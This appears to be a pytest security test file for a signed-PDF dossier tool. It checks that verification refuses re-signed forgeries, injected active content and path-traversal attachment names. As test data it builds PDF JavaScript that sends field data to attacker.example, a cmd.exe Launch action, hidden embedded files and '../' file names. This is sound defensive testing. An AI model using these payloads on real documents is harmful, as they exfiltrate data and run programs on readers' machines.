"""A forger holds a genuine dossier, changes it, and signs it again. Verification must refuse
what the pages and the object graph betray, and say plainly that only a fingerprint received
another way (or a trusted sender) proves who signed."""

from __future__ import annotations

import hashlib
import io
import json
from pathlib import Path

import nacl.signing
import pytest
from pypdf import PdfReader
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from app.core.errors import IntegrityError
from app.core.export import dossier, keys, seal, trust, verify
from app.core.export import manifest as manifest_mod
from app.core.export.content import ExportOptions
from app.core.vault import Vault
from tests.conftest import run_cli
from tests.core.export.case import build_case
from tests.security.forge import forge, raw_resign, unsigned

SCRIPT = "app.launchURL('https://attacker.example/?c=' + this.getField)"


class Journal:
    def __init__(self, folder: Path) -> None:
        vault = Vault.create(folder / "vault", "pw", strength="test")
        case = build_case(vault, folder)
        self.lawyer_dir = folder / "lawyer"
        seal.keygen(self.lawyer_dir)
        self.lawyer_pub = seal.read_public_key(self.lawyer_dir / "lawyer.pub")
        self.un = dossier.build(vault, ExportOptions("un", case.incidents)).pdf
        self.lawyer = dossier.build(vault, ExportOptions("lawyer", case.incidents, json=True)).pdf
        self.master = keys.root(vault)
        self.case = case
        vault.lock()

    def key(self, dest: str) -> nacl.signing.SigningKey:
        return keys.signing_key(self.master, dest)


@pytest.fixture(scope="module")
def layla(tmp_path_factory):
    return Journal(tmp_path_factory.mktemp("layla"))


@pytest.fixture(scope="module")
def forger(tmp_path_factory):
    """Someone with a Sijil journal of their own: their dossiers are genuine Sijil files."""
    return Journal(tmp_path_factory.mktemp("forger"))


def fresh_key() -> nacl.signing.SigningKey:
    return nacl.signing.SigningKey.generate()


def _add_content(writer, data: bytes, page: int = 0) -> None:
    stream = writer.pages[page]["/Contents"].get_object()  # changed in place: no object left over
    stream.set_data(stream.get_data() + b"\n" + data)


def _js(code: str = SCRIPT) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)})


def _outline_action(action: DictionaryObject):
    def mutate(writer) -> None:
        item = writer.add_outline_item(title="Open the evidence", page_number=0).get_object()
        for key in ("/Dest", "/A"):
            item.pop(NameObject(key), None)
        item[NameObject("/A")] = action
    return mutate


def _catalog(**entries):
    def mutate(writer) -> None:
        for key, value in entries.items():
            writer._root_object[NameObject("/" + key)] = value
    return mutate


def _annotation(subtype: str, action: DictionaryObject | None = None):
    def mutate(writer) -> None:
        annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                                  NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595),
                                                                    FloatObject(842)])})
        if action is not None:
            annot[NameObject("/A")] = action
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    return mutate


def _hidden_file(writer) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"MZ payload")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    writer._add_object(stream)  # in the file, reached from nothing a reader shows


def _associated_file(writer) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"not in the manifest")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("x.txt"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})
    writer._root_object[NameObject("/AF")] = ArrayObject([writer._add_object(spec)])


def _type3_font(writer) -> None:
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type3"),
                             NameObject("/FontBBox"): ArrayObject([NumberObject(0)] * 4),
                             NameObject("/FontMatrix"): ArrayObject([FloatObject(0.001), NumberObject(0), NumberObject(0),
                                                                     FloatObject(0.001), NumberObject(0), NumberObject(0)]),
                             NameObject("/CharProcs"): DictionaryObject(), NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
                             NameObject("/FirstChar"): NumberObject(65), NameObject("/LastChar"): NumberObject(65),
                             NameObject("/Widths"): ArrayObject([NumberObject(500)])})
    writer.pages[0]["/Resources"]["/Font"][NameObject("/F9")] = writer._add_object(font)


def _form_xobject(writer) -> None:
    form = DecodedStreamObject()
    form.set_data(b"0 0 m 10 10 l S")
    form.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                 NameObject("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)])})
    resources = writer.pages[0]["/Resources"]
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Fm1"): writer._add_object(form)})
    _add_content(writer, b"q /Fm1 Do Q")


INLINE_IMAGE = b"q 40 0 0 40 60 60 cm BI /W 2 /H 1 /CS /RGB /BPC 8 ID \xff\x00\x00\x00\xff\x00 EI Q"

ACTIVE = {
    "outline JavaScript": _outline_action(_js()),
    "outline Launch action": _outline_action(DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                               NameObject("/F"): TextStringObject("cmd.exe")})),
    "Collection opening on attachments": _catalog(
        Collection=DictionaryObject({NameObject("/Type"): NameObject("/Collection"), NameObject("/View"): NameObject("/T")}),
        PageMode=NameObject("/UseAttachments")),
    "PageMode UseAttachments": _catalog(PageMode=NameObject("/UseAttachments")),
    "OpenAction JavaScript": _catalog(OpenAction=_js()),
    "catalog AA": _catalog(AA=DictionaryObject({NameObject("/WC"): _js()})),
    "URI link": _annotation("/Link", DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                                       NameObject("/URI"): TextStringObject("https://attacker.example")})),
    "RichMedia": _annotation("/RichMedia"),
    "XFA form": _catalog(AcroForm=DictionaryObject({NameObject("/Fields"): ArrayObject(),
                                                    NameObject("/XFA"): TextStringObject("<xdp/>")})),
    "hidden embedded file": _hidden_file,
    "associated file": _associated_file,
    "Type3 font": _type3_font,
    "form XObject": _form_xobject,
    "inline image": lambda w: _add_content(w, INLINE_IMAGE),
}


def test_the_forging_tools_alone_are_accepted(layla):
    """So every refusal below is due to the change, not to how the forgery was rewritten."""
    assert verify.verify_bytes(forge(layla.un, layla.key("un"))).fingerprint == \
        keys.fingerprint_for(layla.master, "un")


@pytest.mark.parametrize("name", ACTIVE)
def test_active_content_is_refused_even_with_a_matching_key(layla, name):
    """Signed by the very key the footers print, so only the object-graph check can refuse."""
    forged = forge(layla.un, layla.key("un"), ACTIVE[name])
    with pytest.raises(IntegrityError, match="never writes"):
        verify.verify_bytes(forged)
    with pytest.raises(IntegrityError):
        verify.verify_bytes(forge(layla.un, fresh_key(), ACTIVE[name]))


def test_inline_images_are_counted(layla):
    twice = forge(layla.un, layla.key("un"), lambda w: _add_content(w, INLINE_IMAGE + b"\n" + INLINE_IMAGE, 1))
    with pytest.raises(IntegrityError, match="2 images drawn inline"):
        verify.verify_bytes(twice)


def test_raw_incremental_update_with_outline_script(layla):
    """A forger writing bytes by hand: a new catalog and outline appended after the last %%EOF."""
    body = unsigned(layla.un)
    reader = PdfReader(io.BytesIO(body))
    root = reader.trailer.raw_get("/Root")
    size = int(reader.trailer["/Size"])
    catalog = reader.trailer["/Root"]
    names = catalog.raw_get("/Names")
    names_ref = f"{names.idnum} 0 R" if hasattr(names, "idnum") else None
    assert names_ref, "the catalog's /Names is an indirect object in Sijil's files"
    objects = [
        f"{root.idnum} 0 obj\n<< /Type /Catalog /Pages {catalog.raw_get('/Pages').idnum} 0 R /Names {names_ref} "
        f"/Outlines {size} 0 R /PageMode /UseOutlines >>\nendobj\n",
        f"{size} 0 obj\n<< /Type /Outlines /First {size + 1} 0 R /Last {size + 1} 0 R /Count 1 >>\nendobj\n",
        f"{size + 1} 0 obj\n<< /Title (Read first) /Parent {size} 0 R /A << /S /JavaScript /JS ({SCRIPT}) >> >>\nendobj\n",
    ]
    out = bytearray(body)
    offsets = {}
    for text in objects:
        offsets[int(text.split()[0])] = len(out)
        out += text.encode("latin-1")
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(offsets):
        out += f"{num} 1\n{offsets[num]:010d} 00000 n \n".encode()
    prev = int(body.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    out += (f"trailer\n<< /Size {size + 2} /Root {root.idnum} 0 R /Info {reader.trailer.raw_get('/Info').idnum} 0 R "
            f"/Prev {prev} >>\nstartxref\n{xref_at}\n%%EOF\n").encode()
    forged = raw_resign(bytes(out), layla.key("un"))
    assert PdfReader(io.BytesIO(forged)).outline  # a reader sees the outline
    with pytest.raises(IntegrityError, match="never writes"):
        verify.verify_bytes(forged)


# Re-signed forgeries ----------------------------------------------------------------------

RETRACTION = b"BT /F1 14 Tf 60 700 Td (I withdraw everything in this dossier.) Tj ET"


def test_resigned_forgery_printing_the_real_fingerprint_is_refused(layla, tmp_path):
    """The issue's forgery: page 1 changed, signed with a fresh key, the footers and the integrity
    page still showing the sender's fingerprint. Following the old README accepted it."""
    forged = forge(layla.un, fresh_key(), lambda w: _add_content(w, RETRACTION))
    assert "withdraw" in PdfReader(io.BytesIO(forged)).pages[0].extract_text()
    with pytest.raises(IntegrityError, match="not the key that signed it"):
        verify.verify_bytes(forged)
    path = tmp_path / "forged.pdf"
    path.write_bytes(forged)
    proc = run_cli("verify", str(path), passphrase=None, env={"SIJIL_TRUST_FILE": str(tmp_path / "t.json")})
    assert proc.returncode == 3 and "re-signed" in proc.stderr and "Intact" not in proc.stdout


def test_a_second_fingerprint_printed_anywhere_is_refused(forger, layla):
    """A forger's own genuine dossier, with Layla's fingerprint added in any spelling."""
    real = keys.fingerprint_for(layla.master, "un")
    for spelling in (real, real.replace(" ", ""), real.lower(), real.replace(" ", "").lower()):
        line = f"BT /F1 9 Tf 60 720 Td (Signing key fingerprint: {spelling}) Tj ET".encode()
        forged = forge(forger.un, forger.key("un"), lambda w, line=line: _add_content(w, line))
        with pytest.raises(IntegrityError, match="not the key that signed it"):
            verify.verify_bytes(forged)


def test_a_page_without_the_signers_fingerprint_is_refused(layla):
    def blank_last_page(writer) -> None:
        writer.pages[-1]["/Contents"].get_object().set_data(b"BT /F1 12 Tf 60 700 Td (Nothing here) Tj ET")
    with pytest.raises(IntegrityError, match="not the key that signed it"):
        verify.verify_bytes(forge(layla.un, layla.key("un"), blank_last_page))


def _cli(*args, store):
    return run_cli(*args, passphrase=None, env={"SIJIL_TRUST_FILE": str(store)})


def test_verify_says_what_it_proved_and_trusted_senders(layla, forger, tmp_path):
    store = tmp_path / "config" / "trusted.json"
    genuine, impostor = tmp_path / "un.pdf", tmp_path / "impostor.pdf"
    genuine.write_bytes(layla.un)
    impostor.write_bytes(forger.un)  # a real Sijil dossier, by someone else's journal
    fp = keys.fingerprint_for(layla.master, "un")

    first = _cli("verify", str(genuine), store=store)
    assert first.returncode == 0 and fp in first.stdout
    assert "NEW KEY" in first.stdout and "proves nothing about who signed" in first.stdout
    assert "from the sender" not in first.stdout

    wrong = _cli("verify", "--trust", "Layla", "--fingerprint", keys.fingerprint_for(forger.master, "un"),
                 str(genuine), store=store)
    assert wrong.returncode == 3 and not store.exists()

    trusted = _cli("verify", "--trust", "Layla", "--fingerprint", fp, str(genuine), store=store)
    assert trusted.returncode == 0 and "Remembered" in trusted.stdout
    assert store.stat().st_mode & 0o777 == 0o600
    assert [s.name for s in trust.load(store)] == ["Layla"]

    again = _cli("verify", str(genuine), store=store)
    assert again.returncode == 0 and "Signed by Layla" in again.stdout and "NEW KEY" not in again.stdout

    other = _cli("verify", str(impostor), store=store)
    assert other.returncode == 0 and "NEW KEY" in other.stdout and "Layla" not in other.stdout
    assert "not the key of any of your trusted senders" in other.stdout
    assert _cli("verify", "--fingerprint", fp, str(impostor), store=store).returncode == 3

    taken = _cli("verify", "--trust", "Someone else", str(genuine), store=store)
    assert taken.returncode == 2 and "already trusted as Layla" in taken.stderr


def test_a_damaged_trust_store_is_a_plain_error(layla, tmp_path):
    store = tmp_path / "trusted.json"
    store.write_text("{not json")
    path = tmp_path / "un.pdf"
    path.write_bytes(layla.un)
    proc = _cli("verify", str(path), store=store)
    assert proc.returncode == 2 and "could not be read" in proc.stderr and "Traceback" not in proc.stderr


# Sealed copies ----------------------------------------------------------------------------

def test_forged_sealed_copy_is_refused_with_the_fingerprint(layla, forger, tmp_path):
    """Sealing is anonymous: anyone with lawyer.pub can seal. The forger seals their own dossier."""
    sealed = tmp_path / "from-layla.sealed"
    seal.write_sealed(sealed, forger.lawyer, layla.lawyer_pub)
    expected = keys.fingerprint_for(layla.master, "lawyer")
    out = tmp_path / "opened"
    refused = _cli("open-dossier", str(sealed), "--key", str(layla.lawyer_dir / "lawyer.key"), "--out", str(out),
                   "--fingerprint", expected, store=tmp_path / "t.json")
    assert refused.returncode == 3 and "another key" in refused.stderr
    assert not out.exists() or not any(out.iterdir())
    opened = _cli("open-dossier", str(sealed), "--key", str(layla.lawyer_dir / "lawyer.key"), "--out", str(out),
                  store=tmp_path / "t.json")
    assert opened.returncode == 0 and "NEW KEY" in opened.stdout and "Sealing does not say who sent it" in opened.stdout


def _rename_first_original(new_name: str, media_type: str | None = None):
    def manifest(m: dict) -> None:
        ev = next(e for e in m["evidence"] if e["attachment"])
        manifest.old = ev["attachment"]
        ev["attachment"] = new_name
        if media_type:
            ev["media_type"] = media_type

    def attachments(files: dict[str, bytes]) -> None:
        files[new_name] = files.pop(manifest.old)
    return manifest, attachments


@pytest.mark.parametrize("name, media_type, written", [
    ("dossier.pdf", "application/pdf", ".pdf"),
    ("../../outside.jpg", None, ".jpg"),
    ("evil.desktop", "application/x-desktop", ".bin"),
])
def test_attachments_are_written_under_names_the_program_chooses(layla, tmp_path, name, media_type, written):
    manifest, attachments = _rename_first_original(name, media_type)
    forged = forge(layla.lawyer, layla.key("lawyer"), manifest=manifest, attachments=attachments)
    source = tmp_path / "in.pdf"
    source.write_bytes(forged)
    out = tmp_path / "deep" / "out"
    result = verify.open_dossier(source, b"\0" * 32, out)
    assert (out / verify.DOSSIER_NAME).read_bytes() == forged  # the verified PDF, not the attachment
    ev = next(e for e in result.manifest["evidence"] if e["attachment"] == name)
    copied = (out / f"evidence-{ev['id']}{written}").read_bytes()
    assert hashlib.sha256(copied).hexdigest() == result.attachments[name] == ev["original_sha256"]
    assert not (tmp_path / "outside.jpg").exists() and not (tmp_path / "deep" / "outside.jpg").exists()
    assert not (out / "evil.desktop").exists()


@pytest.mark.parametrize("change", ["sidecar named .pdf", "evidence id that is a path", "two files one name"])
def test_manifests_that_dictate_names_are_refused(layla, tmp_path, change):
    def manifest(m: dict) -> None:
        attached = [e for e in m["evidence"] if e["attachment"]]
        if change == "sidecar named .pdf":
            m["sidecars"][".pdf"] = m["sidecars"].pop(".json")
        elif change == "evidence id that is a path":
            attached[0]["id"] = "../x"
        else:
            attached[1]["id"] = attached[0]["id"]
            attached[1]["media_type"] = attached[0]["media_type"]

    def attachments(files: dict[str, bytes]) -> None:
        if change == "sidecar named .pdf":
            files["dossier.pdf"] = files.pop("dossier.json")
    forged = forge(layla.lawyer, layla.key("lawyer"), manifest=manifest, attachments=attachments)
    source = tmp_path / "in.pdf"
    source.write_bytes(forged)
    with pytest.raises(IntegrityError):
        verify.open_dossier(source, b"\0" * 32, tmp_path / "out")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_manifest_stays_the_one_sijil_wrote(layla):
    m = json.loads(PdfReader(io.BytesIO(layla.lawyer)).attachments[manifest_mod.MANIFEST_NAME][0])
    assert set(m["sidecars"]) <= set(verify.SIDECARS)


@pytest.mark.parametrize("change", [
    lambda m: m.update(evidence=["x"]),
    lambda m: m["evidence"][0].pop("id"),
    lambda m: m["evidence"][0].update(media_type=None),
    lambda m: m.update(sidecars=[".json"]),
    lambda m: m.update(template=None),
    lambda m: m.pop("incidents"),
])
def test_malformed_manifests_are_refused_in_plain_words(layla, change):
    """Signed by the key it names, yet hostile: an integrity error, never a crash."""
    forged = forge(layla.lawyer, layla.key("lawyer"), manifest=change)
    with pytest.raises(IntegrityError):
        verify.verify_bytes(forged)


def test_originals_never_travel_under_an_executable_name(vault, incident_id, tmp_path):
    from app.core import evidence

    ev = evidence.import_bytes(vault, incident_id, b"MZ\x90\x00 not really a program", name="invoice.exe")
    built = dossier.build(vault, ExportOptions("lawyer", [incident_id]))
    assert sorted(PdfReader(io.BytesIO(built.pdf)).attachments) == [f"evidence-{ev.id}.bin", manifest_mod.MANIFEST_NAME]
    source = tmp_path / "copy.pdf"
    source.write_bytes(built.pdf)
    verify.open_dossier(source, b"\0" * 32, tmp_path / "out")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["dossier.pdf", f"evidence-{ev.id}.bin"]
